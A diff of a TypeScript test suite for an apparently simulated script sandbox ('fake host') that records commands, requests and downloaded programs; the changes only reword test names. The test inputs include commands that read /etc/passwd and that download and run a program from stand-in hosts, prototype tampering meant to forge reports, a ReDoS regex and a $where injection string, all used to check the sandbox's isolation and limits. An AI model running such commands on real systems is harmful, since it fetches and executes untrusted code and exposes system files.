@@ -21,7 +21,7 @@ const WORLD: FakeHost = {
 
 const run = (source: string) => sandbox.runOnFakeHost({ source, owner: 'anna' }, WORLD)
 
-describe('a script in a pretend world', () => {
+describe('a script on the fake host', () => {
   it.each([
     ["require('fs').readFileSync('/etc/passwd', 'utf8').split(':')[0]", 'root'],
     [
@@ -39,7 +39,7 @@ describe('a script in a pretend world', () => {
     ["require('child_process').execSync('echo a > n; echo b > n; cat n')", 'b\n'],
     ["String(require('child_process').exec('ls'))", '[object Object]'],
     ["(() => {}).constructor('return process.version')().startsWith('v')", true],
-  ])('sees what it expects of %s', async (source, value) => {
+  ])('finds the usual %s', async (source, value) => {
     expect(await run(source)).toMatchObject({ value, error: undefined })
   })
 
@@ -54,7 +54,7 @@ describe('a script in a pretend world', () => {
     expect((await run(source)).error?.message).toMatch(words)
   })
 
-  it('downloads a program and runs it, and all of it is told', async () => {
+  it('downloads a program and runs it, and all of it is recorded', async () => {
     const line = 'wget -O malware https://example.org/a/malware?raw=true && chmod +x malware && ./malware'
     const { effects, error } = await run(`require('child_process').exec(${JSON.stringify(line)})`)
     expect(error).toBeUndefined()
@@ -65,12 +65,12 @@ describe('a script in a pretend world', () => {
     })
   })
 
-  it('cannot run what may not run', async () => {
+  it('cannot run a file that is not executable', async () => {
     const { effects } = await run("require('child_process').exec('curl -o x http://a.b/x && ./x')")
     expect(effects.ran).toEqual([])
   })
 
-  it('tells what it did even where it fails afterwards', async () => {
+  it('has its effects reported even if it fails later', async () => {
     const { effects, error } = await run("require('child_process').exec('id'); throw new Error('later')")
     expect(error?.message).toBe('later')
     expect(effects.commands).toEqual(['id'])
@@ -98,12 +98,12 @@ const FORGED = [
   ],
 ] as const
 
-describe('what a script did is told by the machine, not by the script:', () => {
-  it.each(FORGED)('whatever becomes of %s', async (_what, source) => {
+describe('the host reports what a script did, not the script:', () => {
+  it.each(FORGED)('whatever a script does to %s', async (_what, source) => {
     expect((await run(source)).effects).toEqual({ commands: [], requests: [], ran: [] })
   })
 
-  it('what it really did is told all the same', async () => {
+  it('real effects are still reported', async () => {
     const { effects } = await run(
       "Array.prototype.push = () => 0; Map.prototype.get = () => 0; JSON.parse = () => ({}); require('child_process').exec('wget -O a http://b.c/a && chmod +x a && ./a')",
     )
@@ -111,7 +111,7 @@ describe('what a script did is told by the machine, not by the script:', () => {
     expect(effects.ran).toEqual([{ program: '/juice-shop/a', from: 'http://b.c/a' }])
   })
 
-  it('what was done before time ran out is told as well', async () => {
+  it('effects before a timeout are reported as well', async () => {
     const work = await openJavascript()
     const source = "require('child_process').exec('id'); for (;;);"
     const job = scriptJob({ source, deadlineMs: 100, owner: 'anna' }, { fakeHost: WORLD })
@@ -121,7 +121,7 @@ describe('what a script did is told by the machine, not by the script:', () => {
     })
   })
 
-  it('the machine hands out nothing that leads to its own realm', async () => {
+  it('the host exposes no object of its own realm', async () => {
     const { effects, value } = await run(
       `let found = 'nothing'
       try { require('fs').readFileSync('/missing') } catch (error) {
@@ -135,7 +135,7 @@ describe('what a script did is told by the machine, not by the script:', () => {
     expect(effects.commands).toEqual(['echo hi'])
   })
 
-  it('no more of it than one can read', async () => {
+  it('reports are limited in length', async () => {
     const { effects } = await run(
       "for (let i = 0; i < 60; i++) { try { require('child_process').execSync('true ' + 'x'.repeat(5000)); fetch('y'.repeat(5000)) } catch {} } 1",
     )
@@ -144,7 +144,7 @@ describe('what a script did is told by the machine, not by the script:', () => {
   })
 })
 
-describe('what a script brings is bounded:', () => {
+describe('the size of what a script brings is limited:', () => {
   const long = 'x'.repeat((1 << 20) + 1)
   it.each([
     ['itself', { source: `1 // ${long}` }, WORLD],
@@ -156,7 +156,7 @@ describe('what a script brings is bounded:', () => {
     expect(error).toMatchObject({ name: 'RangeError', message: expect.stringContaining('too long') })
   })
 
-  it('a machine full of files of the widest kind is no trouble', async () => {
+  it('a host full of files with wide characters is accepted', async () => {
     const files = Object.fromEntries(
       Array.from({ length: 8 }, (_, index) => [`/${index}`, `ж${'\0'.repeat((64 << 10) - 2)}`]),
     )
@@ -168,16 +168,16 @@ describe('what a script brings is bounded:', () => {
   })
 })
 
-describe('an expression that is asked of documents', () => {
+describe('a $where expression', () => {
   const documents = [{ product: 1 }, { product: 2 }, { product: 3 }]
   const where = (expression: string) => sandbox.where(expression, documents, 'anna')
 
-  it('sees each of them as this', async () => {
+  it('sees each document as `this`', async () => {
     expect((await where('this.product == 2')).matches).toEqual([false, true, false])
     expect((await where('this.product == 1 || true')).matches).toEqual([true, true, true])
   })
 
-  it('sees as many as there is room for, and says nothing of the rest', async () => {
+  it('sees as many documents as fit, and ignores the rest', async () => {
     const many = Array.from({ length: 5_000 }, () => ({ message: 'x'.repeat(1_000) }))
     const { matches } = await sandbox.where("this.message + 'all'", many, 'anna')
     expect(matches).toHaveLength(5_000)
@@ -185,26 +185,26 @@ describe('an expression that is asked of documents', () => {
     expect(matches.at(-1)).toBe(false)
   })
 
-  it('answers with yes and no, whatever else it would like to say', async () => {
+  it('returns only booleans', async () => {
     const answer = '1 }).call(one) }), Array(349000).fill([])) || ((function () { return 1'
     const result = await where(answer).catch(({ name }) => name)
     expect(['RangeError', 'SyntaxError', 'TypeError']).toContain(result)
   })
 
-  it('may sleep, which is counted and takes no time', async () => {
+  it('may sleep, which is counted but takes no time', async () => {
     expect((await where('this.product == sleep(999999)')).sleptMs).toBe(6_000)
     expect((await where('this.product == sleep(-1)')).sleptMs).toBe(0)
   })
 
   it.each(['this.product == kaboom', 'this.product == ', "process.exit() || '"])(
-    'says what is wrong with %s',
+    'reports the error in %s',
     async (expression) => {
       await expect(where(expression)).rejects.toMatchObject({ name: /ReferenceError|SyntaxError/ })
     },
   )
 })
 
-describe('a script with a limit on the turns of its loops', () => {
+describe('a script with a loop limit', () => {
   const limited = (source: string) =>
     sandbox.javascript({ source, mostTurns: 1_000, deadlineMs: 300, owner: 'anna' })
 
@@ -214,24 +214,24 @@ describe('a script with a limit on the turns of its loops', () => {
     'do ; while (1)',
     'let i = 0; while (i < 2000) i++',
     'for (let a = 0; a < 100; a++) for (let b = 0; b < 100; b++) a',
-  ])('is ended: %s', async (source) => {
+  ])('is stopped: %s', async (source) => {
     await expect(limited(source)).rejects.toThrow(/^Infinite loop detected - reached max iterations$/)
   })
 
   it.each([
     ['let n = 0; for (const x of [1, 2, 3]) n += x; n', 6],
     ['[1, 2].map((x) => x * 2)', [2, 4]],
-  ])('does its work: %s', async (source, value) => {
+  ])('runs to its end: %s', async (source, value) => {
     expect(await limited(source)).toEqual(value)
   })
 
-  it('still runs out of time elsewhere', async () => {
+  it('still times out outside of loops', async () => {
     const endless = limited("/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaa')")
     await expect(endless).rejects.toMatchObject({ timedOut: true })
   })
 })
 
-describe('the shell of a pretend world', () => {
+describe('the shell of the fake host', () => {
   const ends = async (line: string) => {
     const source = `require('child_process').spawnSync('sh', ['-c', ${JSON.stringify(line)}])`
     const { stdout, stderr, status } = Object((await run(source)).value)
@@ -262,7 +262,7 @@ describe('the shell of a pretend world', () => {
     ['missing 2>/dev/null || echo b', 'b\n'],
     ['echo hi > note && cat note', 'hi\n'],
     ['labelmaker --size M --text "Plum & Quince"', 'Plum & Quince\n'],
-  ])('prints what a real one would of %s', async (line, printed) => {
+  ])('prints what a real shell would for %s', async (line, printed) => {
     expect(await prints(line)).toBe(printed)
   })
 
@@ -277,13 +277,13 @@ describe('the shell of a pretend world', () => {
     ['missing "$(absent)"', /absent: not found\n.*missing: not found/],
     ['labelmaker --size XL --text x', /no such size: XL/],
     ['labelmaker --size M', /--text is missing/],
-  ])('says what is wrong with %s', async (line, words) => {
+  ])('reports the error in %s', async (line, words) => {
     const { stderr, status } = await ends(line)
     expect(stderr).toMatch(words)
     expect(status).toBe(1)
   })
 
-  it('goes on after what fails, and tells of both', async () => {
+  it('continues after a failing command, and reports both', async () => {
     expect(await ends('missing; echo on')).toEqual({
       stdout: 'on\n',
       stderr: '/bin/sh: 1: missing: not found\n',
@@ -291,7 +291,7 @@ describe('the shell of a pretend world', () => {
     })
   })
 
-  it('is not asked where a program is run with its words', async () => {
+  it('is not used where a program is run with separate arguments', async () => {
     const source = `require('child_process').spawnSync('echo', ['$(whoami); "x" \\'y\\''])`
     expect((await run(source)).value).toMatchObject({ stdout: `$(whoami); "x" 'y'\n`, status: 0 })
   })
